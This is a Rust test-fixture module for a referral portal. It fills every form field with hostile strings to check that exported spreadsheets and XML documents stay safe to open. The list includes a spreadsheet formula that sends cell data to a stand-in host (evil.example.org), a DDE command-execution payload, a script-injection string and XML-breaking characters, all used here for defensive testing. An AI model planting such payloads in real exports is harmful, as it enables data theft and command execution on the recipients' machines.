//! Outputs opened by readers that are not ours, and cases full of what could break them.

use std::collections::BTreeMap;
use std::io::{Cursor, Read};

use marac_portal::area::Letters;
use marac_portal::domain::answers::{Answers, Key, Value};
use marac_portal::domain::context::Context;
use marac_portal::domain::criteria::{Listed, Rules};
use marac_portal::domain::date::read_day;
use marac_portal::domain::form::{Kind, MOST_ROWS, QUESTIONS};
use marac_portal::domain::instrument::Instrument;
use marac_portal::domain::label::Label;
use marac_portal::domain::record::Record;
use marac_portal::render::outputs::{Include, Occasion};

use super::record::RECORD_V1;

/// What people who mean harm could write, and people who do not.
pub const HOSTILE: [&str; 9] = [
    "=HYPERLINK(\"http://evil.example.org/?\"&A1,\"Marla\")",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1+1)",
    " \u{a0}\t=1+1",
    "\u{202e}=1+1\u{2066}",
    "<script>alert(1)</script><w:p/>&amp;]]>\"'",
    "\u{0}\u{1}\u{8}\u{b}\u{c}\u{1f}\u{7f}\u{fffe}\u{ffff}=1+1_x0041_",
    "&P&D{}%s",
];

pub fn context() -> Context {
    Context {
        instrument: Instrument::parse(include_bytes!("../../public/instruments/dash-ric.json")).unwrap(),
        rules: Rules::default(),
        agencies: vec![Listed { id: "health".into(), label: Label::One("Northmere Health".into()) }],
        today: read_day("2026-11-22").unwrap(),
    }
}

pub fn occasion(context: &Context) -> Occasion<'_> {
    Occasion {
        area: "Northmere",
        phone: "07700 900100",
        letters: Letters::NONE,
        marking: "OFFICIAL-SENSITIVE".into(),
        meeting: None,
        include: Include::default(),
        context,
    }
}

/// The complete invented referral.
pub fn answers() -> Answers {
    Record::read(RECORD_V1).unwrap().answers
}

/// With a text in every place that holds text, also where it should not.
pub fn filled_with(text: &str) -> Answers {
    let mut answers = answers();
    for question in QUESTIONS {
        let rows = question.group().map_or(1, |_| MOST_ROWS.min(3));
        for row in 0..rows {
            let value = match question.kind {
                Kind::Text { .. } | Kind::LongText { .. } => Value::Text(text.into()),
                Kind::Choice(_) if question.id == "household.kind" => Value::Choice("child".into()),
                Kind::Choice(_) => Value::Choice(text.into()),
                Kind::Choices(_) => Value::Choices(vec![text.into()]),
                Kind::Date(_) => continue,
            };
            answers.values.insert(Key::at(question.id, row).unwrap(), value);
        }
    }
    answers
}

/// One hostile text in every place, each by itself, and a hundred thousand characters of a name.
pub fn hostile() -> Vec<Answers> {
    let long = "Zo\u{eb} ".repeat(25_000);
    HOSTILE.iter().copied().chain([long.as_str()]).map(filled_with).collect()
}

/// The parts of a zip, read by another reader.
pub fn unzipped(bytes: &[u8]) -> BTreeMap<String, String> {
    let mut archive = zip::ZipArchive::new(Cursor::new(bytes)).expect("a zip");
    let mut parts = BTreeMap::new();
    for at in 0..archive.len() {
        let mut file = archive.by_index(at).unwrap();
        let mut text = String::new();
        let name = file.name().unwrap().into_owned();
        file.read_to_string(&mut text).unwrap_or_else(|_| panic!("{name}: not UTF-8"));
        parts.insert(name, text);
    }
    parts
}

/// Panics unless this is XML that every reader takes; the names of its elements.
pub fn elements(name: &str, xml: &str) -> Vec<String> {
    use quick_xml::events::Event;
    assert!(xml.chars().all(may_stand_in_xml), "{name}: a character that XML 1.0 forbids");
    let mut reader = quick_xml::Reader::from_str(xml);
    reader.config_mut().check_end_names = true;
    let (mut open, mut names) = (0, Vec::new());
    loop {
        match reader.read_event().unwrap_or_else(|error| panic!("{name}: {error}")) {
            Event::Start(start) => {
                open += 1;
                names.push(String::from_utf8(start.name().as_ref().to_vec()).unwrap());
            }
            Event::Empty(empty) => names.push(String::from_utf8(empty.name().as_ref().to_vec()).unwrap()),
            Event::End(_) => open -= 1,
            Event::Eof => break,
            _ => {}
        }
    }
    assert_eq!(open, 0, "{name}: an element that is not closed");
    names
}

/// XML 1.0, section 2.2.
fn may_stand_in_xml(c: char) -> bool {
    matches!(c, '\t' | '\n' | '\r' | ' '..='\u{d7ff}' | '\u{e000}'..='\u{fffd}' | '\u{10000}'..)
}
